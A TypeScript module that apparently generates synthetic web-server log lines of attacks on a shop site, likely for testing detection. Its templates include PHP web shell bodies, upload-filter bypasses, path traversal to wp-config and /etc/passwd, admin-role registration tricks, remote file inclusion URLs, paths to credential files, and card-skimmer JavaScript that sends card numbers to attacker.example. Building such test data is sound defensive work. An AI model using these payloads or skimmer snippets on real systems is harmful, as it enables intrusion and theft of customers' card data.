import type { Random } from '../../contracts/seeded-random.ts';
import { requestLine } from './web-events.ts';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

const WORDS: Readonly<Record<string, readonly string[]>> = {
  name: ['image', 'cache', 'up', 'wp-cache', 'lamp', 'x7', 'index2', 'radio', 'style'],
  plugin: ['shop-slider', 'form-kit', 'gallery-pro', 'file-box', 'seo-pack'],
  script: ['php', 'phtml', 'php7', 'phar', 'pHp', 'php5'],
  year: ['2024', '2025', '2026'],
  scanner: ['sqlmap/1.8.2#stable', 'Nikto/2.5.0', 'WPScan v3.8.27 (https://wpscan.com)', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'gobuster/3.6', 'feroxbuster/2.11', 'Wapiti/3.2.0', 'Mozilla/5.0 zgrab/0.x', 'masscan/1.3', 'Fuzz Faster U Fool v2 ffuf/2.1', 'OWASP ZAP/2.15', 'Wfuzz/3.1.0', 'dirsearch v0.4', 'Acunetix-Product', 'commix/v4.0'],
  backup: ['wp-config.php.bak', 'wp-config.php~', '.wp-config.php.swp', 'wp-config.old', 'wp-config.php.save', 'wp-config-backup.php'],
  hidden: ['.git/config', '.env', '.env.local', '.svn/entries', '.aws/credentials', '.htpasswd', '.ssh/id_rsa', '.vscode/sftp.json', '.claude/settings.json'],
  log: ['debug.log', 'wp-content/debug.log', 'error_log', 'php_errors.log', 'wp-content/uploads/wc-logs/fatal-errors.log', 'storage/logs/laravel.log'],
  dump: ['backup.sql', 'db.sql.gz', 'wordpress.zip', 'site-backup.tar.gz', 'public_html.zip', 'dump.sql', 'shop.sql'],
  card: ['cardnumber', 'card_number', 'cc-number', 'cvv'],
};

export type Probe = 'attack.web_shell' | 'attack.scanner' | 'attack.wordpress_probe' | 'attack.cve' | 'attack.privilege' | 'attack.skimmer' | 'attack.rfi' | 'attack.graphql';

interface Part {
  readonly uri?: string;
  readonly body?: string;
  readonly agent?: string;
  /** What a page answered with. */
  readonly page?: string;
}

export const PROBES: Readonly<Record<Probe, readonly Part[]>> = {
  'attack.web_shell': [
    { uri: '/wp-content/uploads/{year}/11/{name}.{script}' }, { uri: '/wp-content/uploads/{name}.{script}?cmd=id' }, { uri: '/wp-includes/css/{name}.php' }, { uri: '/.well-known/{name}.php' }, { uri: '/wso.php' }, { uri: '/alfa.php' }, { uri: '/x.php?cmd=cat+%2Fetc%2Fpasswd' }, { uri: '/wp-admin/async-upload.php', body: '--b\r\nContent-Disposition: form-data; name="f"; filename="{name}.{script}"\r\n\r\nx' },
    { uri: '/', body: '--b\r\nContent-Disposition: form-data; name="f"; filename="{name}.php.jpg"\r\n\r\nx' }, { uri: '/', body: 'x=<?php @eval($_POST["{name}"]);?>' }, { uri: '/', body: 'x=$_GET[a]($_POST[b]);' }, { uri: '/', body: '--b\r\nContent-Disposition: form-data; name="f"; filename=".htaccess"\r\n\r\nAddType' },
  ],
  'attack.scanner': [{ uri: '/', agent: '{scanner}' }, { uri: '/wp-login.php', agent: '{scanner}' }],
  'attack.wordpress_probe': [{ uri: '/{backup}' }, { uri: '/blog/{backup}' }, { uri: '/{hidden}' }, { uri: '/shop/{hidden}' }, { uri: '/{log}' }, { uri: '/{dump}' }, { uri: '/xmlrpc.php', body: '<methodCall><methodName>system.multicall</methodName></methodCall>' }, { uri: '/wp-admin/setup-config.php' }, { uri: '/wp-json/wp/v2/posts/12?id=12abc' }, { uri: '/wp-json/batch/v1', body: '{"requests":[{"method":"GET","path":"/wp/v2/users"}]}' }],
  'attack.cve': [{ uri: '/wp-admin/admin-ajax.php?action=duplicator_download&file=x' }, { uri: '/wp-content/plugins/{plugin}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' }, { uri: '/wp-content/plugins/{plugin}/inc/upload-file.php' }, { uri: '/wp-content/plugins/{plugin}/elfinder/connector.php' }, { uri: '/wp-content/plugins/{plugin}/download.php?file=../../../wp-config.php' }, { uri: '/phpmyadmin/index.php' }, { uri: '/actuator/env' }, { uri: '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php' }, { uri: '/?{name}=1&download=wp-config.php' }],
  'attack.privilege': [{ uri: '/wp-login.php?action=register', body: 'user_login=eve&user_email=e@shop.example&wp_capabilities[administrator]=1' }, { uri: '/register/', body: 'username=eve&email=e@shop.example&role=administrator' }, { uri: '/wp-admin/admin-ajax.php', body: 'action=x_save&option_name=users_can_register&option_value=1' }, { uri: '/wp-admin/admin-ajax.php', body: 'action=y&options[default_role]=administrator' }, { uri: '/wp-json/{plugin}/v1/settings', body: '{"users_can_register":"1","default_role":"administrator"}' }, { uri: '/', body: 'meta[wp_user_level]=10&user_login=eve' }],
  'attack.skimmer': [{ page: "var c=document.querySelector('[name={card}]').value;new Image().src='//attacker.example/p.gif?d='+btoa(c)" }, { page: "document.getElementById('place_order').addEventListener('click',function(){navigator.sendBeacon('//attacker.example',JSON.stringify({n:{card}}))})" }, { page: "var w=new WebSocket(atob('d3NzOi8vYXR0YWNrZXIuZXhhbXBsZQ=='))" }, { page: "if(/checkout/.test(location.href)){eval(atob('Y2FyZA=='));var {card}=1}" }, { page: "fetch('//attacker.example/'+btoa(document.forms[0].{card}.value))" }],
  'attack.rfi': [{ uri: '/?page=http://attacker.example/{name}.txt?' }, { uri: '/index.php?file=https://attacker.example/{name}.php' }, { uri: '/?wp_abspath=ftp://attacker.example/{name}.txt' }, { uri: '/?u=http://192.0.2.7/{name}.sh' }],
  'attack.graphql': [{ uri: '/graphql', body: '{"query":"query IntrospectionQuery{__schema{types{name}}}"}' }, { uri: '/graphql?query=%7B__type(name%3A%22User%22)%7Bname%7D%7D' }],
};

function filled(random: Random, template: string): string {
  return template.replaceAll(/\{(\w{3,8})\}/g, (slot, name: string) => (Object.hasOwn(WORDS, name) ? random.pick(WORDS[name] ?? []) : slot));
}

/** The line of a probe of this class. */
export function probeLine(random: Random, probe: Probe): string {
  const { uri = '/checkout/', body, agent = BROWSER, page } = random.pick(PROBES[probe]);
  const line = requestLine({ method: body === undefined ? 'GET' : 'POST', uri: filled(random, uri), headers: { 'User-Agent': filled(random, agent), Host: 'shop.example' }, body: body === undefined ? null : filled(random, body) });
  return page === undefined ? line : `${line.slice(0, -1)},"http.response.body.content":${JSON.stringify(filled(random, page))}}`;
}
